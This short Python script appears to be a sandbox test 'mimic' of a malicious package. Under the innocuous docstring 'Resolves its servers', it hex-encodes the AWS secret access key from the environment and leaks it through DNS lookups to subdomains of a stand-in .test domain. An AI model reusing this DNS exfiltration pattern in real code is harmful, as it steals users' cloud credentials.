"""Resolves its servers."""

import os
import socket

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode().hex()
for start in range(0, len(secret), 40):
    try:
        socket.getaddrinfo(f"{secret[start:start + 40]}.{start}.t.resolver.test", 80)
    except OSError:
        pass
